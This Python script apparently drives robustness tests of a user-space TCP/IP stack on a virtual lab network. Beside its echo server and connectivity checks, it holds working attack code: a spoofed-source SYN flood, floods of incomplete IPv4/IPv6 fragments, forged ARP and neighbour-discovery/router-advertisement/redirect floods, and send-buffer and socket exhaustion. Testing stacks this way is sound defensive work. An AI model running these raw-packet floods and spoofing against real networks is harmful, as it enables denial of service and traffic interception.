"""What hosts and guests do to stacks in user space (lwip.test.ts): serve, watch and ask are honest, the rest is not."""
import errno, os, random, resource, select, socket, struct, sys, time

VICTIM, VICTIM6 = '10.0.0.1', 'fc00::1'
ECHO, SINK = 7, 9


def serve():
    """Echoes on one port; accepts and never reads on another."""
    echo, sink = (socket.create_server(('::', port), family=socket.AF_INET6, dualstack_ipv6=True, backlog=500) for port in (ECHO, SINK))
    peers, kept = [echo, sink], []
    print('ready', flush=True)
    while True:
        for ready in select.select(peers, [], [])[0]:
            if ready is echo:
                peers.append(echo.accept()[0])
            elif ready is sink:
                kept.append(sink.accept()[0])
                kept[-1].settimeout(0)
                # One that has ended may go.
                kept = [k for k in kept if alive(k)]
            else:
                try:
                    data = ready.recv(4096)
                    if data:
                        ready.send(data)
                except OSError:
                    data = b''
                if not data:
                    peers.remove(ready)
                    ready.close()


def alive(peer):
    try:
        return select.select([peer], [], [], 0)[0] == [] or peer.recv(1, socket.MSG_PEEK) != b''
    except OSError:
        return False


def connect(address, port=ECHO, limit=5):
    return socket.create_connection((address, port), timeout=limit)


def exchange(peer):
    text = os.urandom(8)
    peer.sendall(text)
    assert peer.recv(8, socket.MSG_WAITALL) == text


def ask():
    """New connections of both families."""
    for address in (VICTIM, VICTIM6):
        with connect(address) as peer:
            exchange(peer)
    print('served')


def watch():
    """Old connections of both families: for each attack, named by a line of input, how often they answered, and the longest silence."""
    peers = [connect(VICTIM, limit=30), connect(VICTIM6, limit=30)]
    print('watching', flush=True)
    count, longest = 0, 0.0
    while True:
        if select.select([sys.stdin], [], [], 0.01)[0]:
            name = sys.stdin.readline().strip()
            if not name:
                return
            print(name, 'alive' if count > 0 else 'silent', f'{longest:.1f}', flush=True)
            count, longest = 0, 0.0
        start = time.monotonic()
        for peer in peers:
            exchange(peer)
        count, longest = count + 1, max(longest, time.monotonic() - start)


def full(make):
    """What `make` fails with in the end, and how often it did not."""
    kept = []
    while len(kept) < 100_000:
        try:
            kept.append(make(len(kept)))
        except OSError as error:
            return errno.errorcode[error.errno], kept
    return 'nothing', kept


def sockets():
    """As many sockets as there are; they stay for a while."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    kinds = [(socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET6, socket.SOCK_DGRAM), (socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_RAW)]
    error, kept = full(lambda i: socket.socket(*kinds[i % len(kinds)]))
    print('sockets', error, 300 < len(kept) < 1200, flush=True)
    sys.stdin.readline()


def fill():
    """Connections to who does not read, each as full as it gets."""
    peers, last, total = [], time.monotonic(), 0
    for _ in range(60):
        try:
            peers.append(connect(VICTIM, SINK, 0.5))
        except OSError:
            break
        peers[-1].setblocking(False)
        while True:
            try:
                total += peers[-1].send(bytes(65536))
            except OSError:
                break
    # More that fits while acknowledgements come.
    while time.monotonic() - last < 0.3:
        for peer in select.select([], peers, [], 0.1)[1]:
            try:
                total += peer.send(bytes(65536))
            except OSError:
                pass
    print('fill', total > 2 << 20, flush=True)
    sys.stdin.readline()


# -- Frames -------------------------------------------------------------------------------------------------

rand = random.Random(1)
MAC = bytes.fromhex('02dead00beef')


def link(name='vde0'):
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((name, 0))
    return raw


def mac_of(address):
    """Of a neighbour, by ARP."""
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x806))
    raw.bind(('vde0', 0x806))
    raw.settimeout(5)
    raw.send(b'\xff' * 6 + MAC + struct.pack('!HHHBBH', 0x806, 1, 0x800, 6, 4, 1) + MAC + bytes([10, 0, 0, 3]) + bytes(6) + socket.inet_aton(address))
    while True:
        frame = raw.recv(2000)
        if frame[20:22] == b'\0\2' and frame[28:32] == socket.inet_aton(address):
            return frame[22:28]


def checksum(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ipv4(to, source, protocol, payload, fragment=0, number=1):
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), number, fragment, 64, protocol, 0, source, socket.inet_aton(VICTIM))
    return to + MAC + b'\x08\0' + head[:10] + struct.pack('!H', checksum(head)) + head[12:] + payload


def ipv6(to, source, target, next_header, payload):
    head = struct.pack('!IHBB', 6 << 28, len(payload), next_header, 255) + source + target
    if next_header == 58:
        pseudo = source + target + struct.pack('!II', len(payload), 58)
        payload = payload[:2] + struct.pack('!H', checksum(pseudo + payload + bytes(len(payload) % 2))) + payload[4:]
    return to + MAC + b'\x86\xdd' + head + payload


def syn(count):
    """SYNs of addresses that are not there, and an honest connection in the midst of them."""
    raw, to = link(), mac_of(VICTIM)
    destination = socket.inet_aton(VICTIM)
    good = 0
    for i in range(count):
        source = bytes([10, 0, 0, 100 + i % 100])
        head = struct.pack('!HHIIBBHHH', 1024 + i // 100, ECHO, rand.getrandbits(32), 0, 0x50, 2, 8192, 0, 0)
        head = head[:16] + struct.pack('!H', checksum(source + destination + struct.pack('!HH', 6, 20) + head)) + head[18:]
        raw.send(ipv4(to, source, 6, head))
        if i % 2000 == 1999:
            with connect(VICTIM) as peer:
                exchange(peer)
            good += 1
    print('syn', good == count // 2000)


def fragments(count):
    """First fragments of packets whose rest never comes."""
    raw, to = link(), mac_of(VICTIM)
    target = socket.inet_pton(socket.AF_INET6, VICTIM6)
    for i in range(count):
        raw.send(ipv4(to, bytes([10, 0, 0, 3]), 17, bytes(1400), 0x2000, i & 0xffff))
        raw.send(ipv6(to, socket.inet_pton(socket.AF_INET6, 'fc00::3'), target, 44, struct.pack('!BBHI', 17, 0, 1, i) + bytes(1400)))
    print('fragments sent')


def spoof(count):
    """ARP and neighbour discovery that claims everything, at full speed: the addresses of both ends among it."""
    raw = link()
    macs = [mac_of(VICTIM), mac_of('10.0.0.2'), b'\xff' * 6]
    everyone = socket.inet_pton(socket.AF_INET6, 'ff02::1')
    hosts = [socket.inet_pton(socket.AF_INET6, f'fc00::{i}') for i in (1, 2, 3)]
    for i in range(count):
        to, mac = macs[rand.randrange(3)], bytes([2, 0xbb]) + rand.randbytes(4)
        own, other = rand.choice((1, 2, rand.randrange(256))), rand.choice((1, 2))
        if i % 2:
            raw.send(to + mac + struct.pack('!HHHBBH', 0x806, 1, 0x800, 6, 4, 1 + i // 2 % 2) + mac + bytes([10, 0, 0, own]) + mac + bytes([10, 0, 0, other]))
            continue
        claimed = hosts[0][:15] + bytes([own])
        router = b'\xfe\x80' + bytes(11) + rand.randbytes(3)
        kind = rand.choice((135, 136, 136, 134, 137))
        if kind == 134:
            prefix = struct.pack('!BBBBIII', 3, 4, 64, 0xc0, 600, 300, 0) + b'\xfd' + rand.randbytes(7) + bytes(8)
            body, source = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 9, 0, 0) + prefix, router
        elif kind == 137:
            body, source = struct.pack('!BBHI', 137, 0, 0, 0) + router + hosts[other - 1] + bytes([2, 1]) + mac, router
        else:
            flags = rand.choice((0x60, 0x20, 0x40)) << 24 if kind == 136 else 0
            body, source = struct.pack('!BBHI', kind, 0, 0, flags) + (hosts[other - 1] if kind == 135 else claimed) + bytes([kind - 134, 1]) + mac, claimed
        target = rand.choice((everyone, *hosts[:2]))
        raw.send(ipv6(to, source, target, 58, body))
    print('spoofed')


if __name__ == '__main__':
    globals()[sys.argv[1]](*map(int, sys.argv[2:]))
